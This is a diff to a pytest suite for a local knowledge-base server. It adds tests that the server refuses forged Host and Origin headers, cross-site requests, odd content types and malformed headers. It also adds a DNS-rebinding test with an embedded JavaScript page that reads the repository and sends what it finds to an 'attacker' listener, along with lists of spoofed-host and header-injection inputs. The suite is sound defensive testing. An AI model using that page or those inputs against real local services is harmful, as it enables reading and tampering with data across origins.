@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import json
 import os
+import queue
 import shutil
 import signal
 import socket
+import ssl
 import subprocess
 import sys
+import threading
 from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -61,8 +65,8 @@ def serve(tmp_path: Path) -> Iterator[Serve]:
     """Servers on free ports, stopped at the end."""
     running: list[Server] = []
 
-    def begin(*arguments: str) -> Server:
-        running.append(Server(tmp_path, *arguments, "--port", "0"))
+    def begin(*arguments: str, port: int = 0) -> Server:
+        running.append(Server(tmp_path, *arguments, "--port", str(port)))
         return running[-1]
 
     yield begin
@@ -180,7 +184,7 @@ def test_a_request_that_lasts_too_long_is_cut_off(serve: Serve) -> None:
     server = serve("served", "--timeout", "1")
     port = int(server.said["url"].rpartition(":")[2])
     with socket.create_connection((LOOPBACK, port), timeout=PATIENCE) as connection:
-        connection.sendall(b"POST /x/chunks HTTP/1.1\r\nContent-Length: 100\r\n\r\n")
+        connection.sendall(f"POST /x/chunks HTTP/1.1\r\n{CLIENT}\r\n{BYTES}\r\nContent-Length: 100\r\n\r\n".encode())
         assert b"200" not in connection.recv(1000)
 
 
@@ -207,7 +211,7 @@ def test_it_tells_a_person_where_everything_is(tmp_path: Path) -> None:
     assert said == [
         f"Serving {tmp_path}/served at {url}/NAME\n",
         f"  {url}/handbook\n",
-        "Everybody on this computer may read and write it.\n",
+        "Every program on this computer may read and write it; web pages may not.\n",
         "Ctrl-C stops the server.\n",
     ]
 
@@ -261,6 +265,197 @@ def test_the_knowledge_base_of_a_repository_is_not_served(tmp_path: Path) -> Non
     knowledge(tmp_path / "kb" / "kb.doltlite", "one")
     (tmp_path / "kb" / "write.lock").touch()
     assert "a repository works on" in refused(tmp_path, "kb")["message"]
+
+
+# -- web pages ---------------------------------------------------------------------------------------------------------
+
+
+def answered(server: Server, request: str, *headers: str, body: bytes = b"") -> int:
+    """The status of the answer to a request as it stands here, PORT replaced; 0 for none."""
+    port = server.said["url"].rpartition(":")[2]
+    head = "\r\n".join((f"{request} HTTP/1.1", *headers)).replace("PORT", port)
+    with socket.create_connection((LOOPBACK, int(port)), timeout=PATIENCE) as connection:
+        connection.sendall(f"{head}\r\n\r\n".encode() + body)
+        answer = b"".join(iter(lambda: connection.recv(65536), b""))
+    return int(answer.split(b" ")[1]) if answer else 0
+
+
+READ, HASHES, CLIENT = "GET /x/refs", "POST /x/has-chunks", "Host: 127.0.0.1"
+BYTES = "Content-Type: application/octet-stream"
+
+
+def test_only_requests_that_name_this_server_and_come_from_no_page_are_answered(serve: Serve, tmp_path: Path) -> None:
+    server = serve("served", "--host", "kb.example.org")
+    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
+    for host in ("127.0.0.1", "127.0.0.1:PORT", "localhost:PORT", "LocalHost", "kb.example.org:PORT"):
+        assert answered(server, READ, f"Host: {host}") == 200, host
+    for ours in ("Origin: http://127.0.0.1:PORT", "Sec-Fetch-Site: none", "Sec-Fetch-Site: same-origin"):
+        assert answered(server, READ, CLIENT, ours) == 200, ours
+    hosts = "evil.test evil.test:PORT 127.0.0.1. 127.0.0.1:1 127.0.0.1:PORT.evil.test 127.1 2130706433 [::1]:PORT 0.0.0.0:PORT localhost.".split()
+    for host in (*hosts, "", "127.0.0.1@evil.test", "evil.test, 127.0.0.1"):
+        assert answered(server, READ, f"Host: {host}") == 403, host
+    assert answered(server, READ) == 400
+    assert answered(server, READ, CLIENT, "Host: evil.test") == 400
+    for foreign in (
+        "Origin: http://evil.test",
+        "Origin: null",
+        "Origin: https://127.0.0.1:PORT",
+        "Origin: http://127.0.0.1:1",
+        "origin: http://127.0.0.1:PORT.evil.test",
+        "Sec-Fetch-Site: cross-site",
+        "sec-fetch-site: same-site",
+    ):
+        for request in (READ, "PUT /planted/refs-if", "POST /planted/commit"):
+            assert answered(server, request, CLIENT, "Content-Length: 0", foreign) == 403, (request, foreign)
+    assert [path.name for path in (tmp_path / "served").iterdir() if not path.name.startswith(".")] == ["x"]
+
+
+def test_only_what_the_engines_client_sends_is_taken(serve: Serve, tmp_path: Path) -> None:
+    server = serve("served")
+    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
+    assert answered(server, HASHES, CLIENT, BYTES, "Content-Length: 20", body=b"h" * 20) == 200
+    for method in ("OPTIONS", "HEAD", "DELETE", "PATCH", "CONNECT", "get"):
+        assert answered(server, f"{method} /x/refs", CLIENT) == 405, method
+    for kind in (
+        "text/plain",
+        "application/x-www-form-urlencoded",
+        "multipart/form-data; boundary=x",
+        "application/json",
+    ):
+        sent = answered(server, HASHES, CLIENT, f"Content-Type: {kind}", "Content-Length: 20", body=b"h" * 20)
+        assert sent == 415, kind
+    assert answered(server, HASHES, CLIENT, "Content-Length: 20", body=b"h" * 20) == 415
+    for broken in (
+        "Content-Length: -1",
+        "Content-Length: 1_0",
+        "Content-Length: 1\r\nContent-Length: 2",
+        "Transfer-Encoding: chunked",
+        " folded: line",
+        "X-Content-Length : 5",
+        "X: a\nHost: b",
+        "no colon",
+    ):
+        assert answered(server, HASHES, CLIENT, BYTES, broken) == 400, broken
+    assert answered(server, "GET http://evil.test/x/refs", CLIENT) == 400
+    assert answered(server, READ, CLIENT, f"X: {'x' * 20_000}") == 431
+    assert cloned(tmp_path / "c.db", server.url("x")) == ["one"]
+
+
+def test_nothing_but_the_checked_port_leads_to_the_engines_own_server(serve: Serve) -> None:
+    server = serve("served")
+    assert listening(server.process.pid) == [int(server.said["url"].rpartition(":")[2])]
+
+
+def listening(process: int) -> list[int]:
+    """The TCP ports on which a process listens."""
+    folder = Path(f"/proc/{process}")
+    if not folder.exists():
+        pytest.skip("only Linux tells what a process listens on")
+    sockets = {str(each.readlink()) for each in (folder / "fd").iterdir() if each.is_symlink()}
+    rows = [line.split() for table in ("tcp", "tcp6") for line in (folder / "net" / table).read_text().splitlines()[1:]]
+    return [int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in sockets]
+
+
+def test_a_request_without_a_signature_is_refused_over_tls_whatever_it_says(
+    serve: Serve, tmp_path: Path, client: Path, certificate: tuple[Path, Path]
+) -> None:
+    server = serve("served", *protection(tmp_path))
+    port = int(server.said["url"].rpartition(":")[2])
+    trusting = ssl.create_default_context(cafile=str(certificate[0]))
+    for request in (READ, "PUT /planted/refs-if", "POST /planted/commit", "OPTIONS /x/refs"):
+        with (
+            socket.create_connection((LOOPBACK, port), timeout=PATIENCE) as plain,
+            trusting.wrap_socket(plain, server_hostname="localhost") as connection,
+        ):
+            connection.sendall(f"{request} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n".encode())
+            assert connection.recv(1000).split(b" ")[1] == b"401", request
+    assert list((tmp_path / "served").iterdir()) == []
+
+
+PAGE = """<script>
+const read = async () => (await fetch("/x/refs")).text();
+const write = async () => (await fetch("/planted/commit", {method: "POST"})).status;
+async function attempt() {
+    try {
+        const text = await read();
+        if (text == "still the page") throw 0;
+        await fetch("http://127.0.0.1:REPORT/", {method: "POST", mode: "no-cors", body: text + " " + await write()});
+    } catch { setTimeout(attempt, 50); }
+}
+attempt();
+</script>"""
+
+
+class Attacker(BaseHTTPRequestHandler):
+    """The page, and (POST) what it found out."""
+
+    page = ""
+    found: queue.SimpleQueue[str]
+
+    def do_GET(self) -> None:
+        self._answer(self.page if self.path == "/" else "still the page")
+
+    def do_POST(self) -> None:
+        self.found.put(self.rfile.read(int(self.headers["Content-Length"])).decode(errors="replace"))
+        self._answer("")
+
+    def _answer(self, text: str) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(text)))
+        self.send_header("Connection", "close")
+        self.end_headers()
+        self.wfile.write(text.encode())
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+def test_a_page_whose_name_is_given_this_address_reads_and_writes_nothing(serve: Serve, tmp_path: Path) -> None:
+    """DNS rebinding: evil.test is first the attacker's server, then, with the same port, ours."""
+    browser = shutil.which("chromium")
+    if browser is None:
+        pytest.skip("chromium is not installed")
+    found: queue.SimpleQueue[str] = queue.SimpleQueue()
+    told = type("Told", (Attacker,), {"found": found})
+    listener = ThreadingHTTPServer((LOOPBACK, 0), told)
+    page = PAGE.replace("REPORT", str(listener.server_port))
+    shown = threading.Event()
+    first = ThreadingHTTPServer((LOOPBACK, 0), type("First", (Attacker,), {"page": page}))
+    port = first.server_port
+    first.RequestHandlerClass.log_message = lambda *_: shown.set()
+    for each in (listener, first):
+        threading.Thread(target=each.serve_forever, args=(0.05,), daemon=True).start()
+    options = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync".split()
+    visiting = subprocess.Popen(
+        [
+            browser,
+            *options,
+            f"--user-data-dir={tmp_path}/profile",
+            "--host-resolver-rules=MAP evil.test 127.0.0.1",
+            f"http://evil.test:{port}/",
+        ],
+        env={**os.environ, "HOME": str(tmp_path)},
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        assert shown.wait(PATIENCE)
+        first.shutdown()
+        first.server_close()
+        (tmp_path / "served").mkdir()
+        push(knowledge(tmp_path / "ours.db", "one"), f"file://{tmp_path}/served/x")
+        serve("served", port=port)
+        said = found.get(timeout=PATIENCE)
+    finally:
+        visiting.kill()
+        visiting.wait()
+        for each in (listener, first):
+            each.shutdown()
+            each.server_close()
+    assert "main" not in said
+    assert said.endswith(" 403")
+    assert [path.name for path in (tmp_path / "served").iterdir() if not path.name.startswith(".")] == ["x"]
 
 
 # -- other computers ---------------------------------------------------------------------------------------------------
@@ -396,7 +591,7 @@ def test_another_address_takes_tls_and_keys(tmp_path: Path, address: str) -> Non
     assert not (tmp_path / "served").exists()
 
 
-@pytest.mark.parametrize("given", ["--cert c", "--cert c --key k", "--clients d", "--key k", "--host h"])
+@pytest.mark.parametrize("given", ["--cert c", "--cert c --key k", "--clients d", "--key k"])
 def test_half_a_protection_is_none(tmp_path: Path, given: str) -> None:
     assert "belong together" in refused(tmp_path, "served", *given.split())["message"]
 
